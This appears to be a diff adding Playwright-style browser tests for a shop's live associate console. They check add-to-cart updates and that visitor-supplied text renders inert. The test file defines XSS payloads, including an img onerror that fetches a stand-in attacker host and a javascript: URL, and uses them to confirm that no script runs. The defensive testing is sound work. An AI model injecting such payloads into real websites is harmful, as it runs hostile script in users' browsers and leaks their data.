@@ -1,0 +1,110 @@
+"""The floor in a real browser: a shopper on /shop appears live in the associate console."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from collections.abc import Iterator
+from typing import Any
+
+import httpx
+import pytest
+
+from salon.db.engine import Database
+from salon.demo.seed import DEMO_ACCOUNTS, seed_demo
+from salon.identity.service import SiteInfo
+from tests.support import LiveServer, batch, event, free_port, fresh_database
+from tests.web.browser import chromium, login_console
+
+pytestmark = pytest.mark.browser
+ASSOCIATE = DEMO_ACCOUNTS[0]
+XSS = [
+    '<img src=x onerror="window.__pwned=1;fetch(\'http://attacker.example/i\')">',
+    "<script>window.__pwned=2</script>",
+    '"><svg onload="window.__pwned=3">',
+]
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LiveServer, SiteInfo]]:
+    with fresh_database("sqlite", str(tmp_path_factory.mktemp("db"))) as url:
+        port = free_port()  # the site's allowed origin names the port: seed first, like `salon demo`
+
+        async def seed() -> SiteInfo:
+            db = Database(url)
+            try:
+                return await seed_demo(db, [f"http://127.0.0.1:{port}"])
+            finally:
+                await db.dispose()
+
+        site = asyncio.run(seed())
+        server = LiveServer.start(url, port=port, demo=True)
+        yield server, site
+        server.stop()
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with chromium() as launched:
+        yield launched
+
+
+def test_shopper_add_to_cart_shows_on_the_floor_with_a_bag_and_story(
+    demo: tuple[LiveServer, SiteInfo], browser: Any
+) -> None:
+    server, _ = demo
+    console = browser.new_context().new_page()
+    login_console(console, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
+    shopper = browser.new_context().new_page()
+    shopper.goto(server.base_url + "/shop/p/P101")
+    product_name = shopper.locator("h1").first.inner_text().strip()
+    shopper.locator(".swatch").nth(1).click()
+    shopper.locator("#add-to-cart").click()
+    clicked_at = time.monotonic()
+    tile = console.wait_for_selector(
+        '.visitor[data-bag]:not([data-bag="0"])', timeout=2_000, state="visible"
+    )
+    assert time.monotonic() - clicked_at < 2.0
+    assert tile.get_attribute("data-bag") in ("1", "2", "3")
+    tile.click()
+    console.wait_for_selector("#story .story-product", timeout=5_000)
+    assert product_name in console.locator("#story").inner_text()
+    assert console.locator("#story .story-cart-line").count() == 1
+
+
+def test_visitor_controlled_text_is_inert_in_the_console(
+    demo: tuple[LiveServer, SiteInfo], browser: Any
+) -> None:
+    server, site = demo
+    page = browser.new_context().new_page()
+    dialogs: list[str] = []
+    outside: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.on("request", lambda r: outside.append(r.url) if "attacker" in r.url else None)
+    login_console(page, server.base_url, ASSOCIATE.email, ASSOCIATE.password)
+    events = [
+        event("page_view", url="javascript:alert(1)//" + XSS[0], title=XSS[0], page_type="product",
+              referrer=XSS[2]),
+        event("search", query=XSS[1]),
+        event("product_view", product_id="P101", name=XSS[2], price=10),
+        event("add_to_cart", product_id="P101", name=XSS[1], price=10, quantity=1),
+    ]
+    answer = httpx.post(server.base_url + "/api/track", json=batch(site, events))
+    assert answer.status_code == 200
+    visit_id = answer.json()["visit"]
+    tile = page.wait_for_selector(f'.visitor[data-visit-id="{visit_id}"]', timeout=5_000)
+    assert XSS[0] in tile.inner_text()  # shown as text, exactly as typed
+    tile.click()
+    page.wait_for_selector("#story .story-event", timeout=5_000)
+    story = page.locator("#story").inner_text()
+    assert XSS[1] in story and XSS[2] in story
+    page.wait_for_timeout(300)  # give any injected handler the chance to run (it must not)
+    assert page.evaluate("window.__pwned") is None
+    assert dialogs == [] and outside == []
+    assert page.locator("#floor img, #story img, #floor script, #story script").count() == 0
+
+
+def test_the_storefront_carries_exactly_one_widget_tag(demo: tuple[LiveServer, SiteInfo]) -> None:
+    server, site = demo
+    html = httpx.get(server.base_url + "/shop").text
+    assert html.count("/widget.js") == 1 and f'data-site="{site.key}"' in html
